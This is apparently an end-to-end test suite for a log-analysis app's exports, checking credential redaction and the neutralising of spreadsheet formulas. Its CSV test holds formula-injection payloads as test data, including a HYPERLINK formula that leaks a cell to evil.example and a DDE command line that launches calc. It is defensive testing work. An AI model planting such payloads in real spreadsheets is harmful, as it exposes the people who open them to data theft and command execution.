// Exports of the filtered set through the UI (CSV, HAR, NDJSON): every matching row, credentials
// redacted even when the store kept them, spreadsheet formulas neutralised; and the banner while a
// source with kept credentials is loaded.
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { AnalysisPage } from './pages/analysis-page'
import { expect, test } from './fixtures'
import { ROOT } from './runtime'

/** Gateway NDJSON with a credential (CNRY…) in every place redaction covers, and formula-like values. */
const CANARY = join(ROOT, 'tests', 'e2e', 'data', 'export-canary.ndjson')
const WORKATO_COLUMNS = [
  'Date', 'Type', 'Code', 'Status', 'Gateway code', 'Status details', 'IP', 'Timing', 'Delay', 'API collection',
  'Endpoint', 'Client', 'Job details', 'API User', 'Agent User', 'Function', 'Result', 'Method', 'URL', 'Correlation ID',
]

test.describe('exporting a filtered set', () => {
  test.beforeEach(async ({ app }) => {
    const tools = new AnalysisPage(app.page)
    await tools.importKeepingCredentials([CANARY])
    await expect(app.summary).toBeVisible({ timeout: 60_000 })
    await app.dismissSummaries()
    await app.expectCount(6)
    await expect(tools.secretsBanner).toHaveText(
      'This store holds live credentials from “export-canary.ndjson”; exports still redact them. Remove the source or re-import it with redaction.Open Sources',
    )
    await app.pick('Result', 'Error')
    await app.expectCount(3)
  })

  test('CSV: every matching row, Workato columns, no credential, formulas neutralised', async ({ app }) => {
    const tools = new AnalysisPage(app.page)
    // the preview shows what the export masks in the selected entry (this store kept its credentials)
    await app.row(/POST \/v1\/login/).locator('[col-id="ts"]').click()
    await tools.exportButton.click()
    await expect(tools.exportCount).toHaveText(
      '3 entries will be exported — every entry that matches, in the grid’s order, nothing cut.',
    )
    const preview = tools.exportDialog.getByRole('table', { name: 'What the export masks in this entry' })
    await expect(preview).toContainText('requestBody')
    await expect(preview).toContainText('«redacted:')
    await expect(tools.exportDialog).toContainText('Credentials are always redacted in exports')
    await expect(preview).not.toContainText('CNRYe2ePASS0006')
    await tools.exportDialog.getByRole('button', { name: 'Cancel', exact: true }).click()

    const csv = await tools.exportAs('CSV', { bom: true })
    expect(csv.fileName).toMatch(/^apilog-export-\d{8}-\d{6}\.csv$/)
    expect(csv.content.startsWith('\uFEFF')).toBe(true)
    expect(csv.content).not.toContain('CNRY')
    const records = parse(csv.content.slice(1), { relax_column_count: false }) as string[][]
    const [header, ...rows] = records
    expect(header).toEqual(WORKATO_COLUMNS)
    await expect(app.entryCount).toHaveText(`${rows.length} entries`)
    expect(rows.map((r) => r[2])).toEqual(['500', '403', '401'])
    const formulaRow = rows[0]
    const cell = (title: string) => formulaRow[WORKATO_COLUMNS.indexOf(title)]
    expect(cell('API User')).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"click me")')
    expect(cell('Agent User')).toBe("'@SUM(1+1)")
    expect(cell('API collection')).toBe("'+cmd|' /C calc'!A0")
    expect(cell('Status details')).toBe("'-2+3 is not a valid quantity")
    expect(cell('Gateway code')).toBe("'=1+2")
    // numbers keep their sign and stay numbers
    expect(cell('Timing')).toBe('3001')
  })

  test('HAR and NDJSON: every matching row, bodies kept, credentials redacted', async ({ app }) => {
    const tools = new AnalysisPage(app.page)
    const har = await tools.exportAs('HAR 1.2')
    expect(har.fileName).toMatch(/\.har$/)
    expect(har.content).not.toContain('CNRY')
    const log = (JSON.parse(har.content) as { log: { version: string; comment: string; entries: Array<{ request: { method: string; url: string } }> } }).log
    expect(log.version).toBe('1.2')
    expect(log.entries.map((e) => `${e.request.method} ${e.request.url}`)).toEqual([
      'GET https://api.example.test/v1/orders/17',
      'DELETE https://api.example.test/v1/orders/18',
      'POST https://api.example.test/v1/login',
    ])
    expect(log.comment).toContain('Credentials are redacted')
    await expect(app.entryCount).toHaveText(`${log.entries.length} entries`)
    await tools.closeExport()

    const ndjson = await tools.exportAs('NDJSON')
    const lines = ndjson.content.trim().split('\n')
    expect(lines).toHaveLength(3)
    expect(ndjson.content).not.toContain('CNRY')
    expect(ndjson.content).toContain('upstream timeout')
  })

  test('the credentials banner leads to Sources and goes away with the source', async ({ app }) => {
    const tools = new AnalysisPage(app.page)
    await tools.secretsBanner.getByRole('button', { name: 'Open Sources' }).click()
    await expect(app.sourcesDialog).toContainText('credentials kept')
    await app.sourcesDialog.getByRole('button', { name: 'Remove export-canary.ndjson' }).click()
    await app.page.getByRole('alertdialog', { name: 'Remove source?' }).getByRole('button', { name: 'Remove' }).click()
    await expect(tools.secretsBanner).toHaveCount(0)
  })
})

test('an import without "Keep credentials" shows no banner, and its export holds no credential either', async ({ app }) => {
  const tools = new AnalysisPage(app.page)
  await app.importFiles([CANARY], app.openFileButton)
  await app.dismissSummaries()
  await app.expectCount(6)
  await expect(tools.secretsBanner).toHaveCount(0)
  await app.row(/POST \/v1\/login/).locator('[col-id="ts"]').click()
  await tools.exportButton.click()
  await expect(tools.exportDialog.getByTestId('redaction-empty')).toHaveText(
    'Nothing left to mask: credentials in this source were already replaced when it was imported.',
  )
  await tools.exportDialog.getByRole('button', { name: 'Cancel', exact: true }).click()
  const csv = await tools.exportAs('CSV')
  expect(csv.content.startsWith('\uFEFF')).toBe(false)
  expect(csv.content).not.toContain('CNRY')
  expect(parse(csv.content)).toHaveLength(7)
})
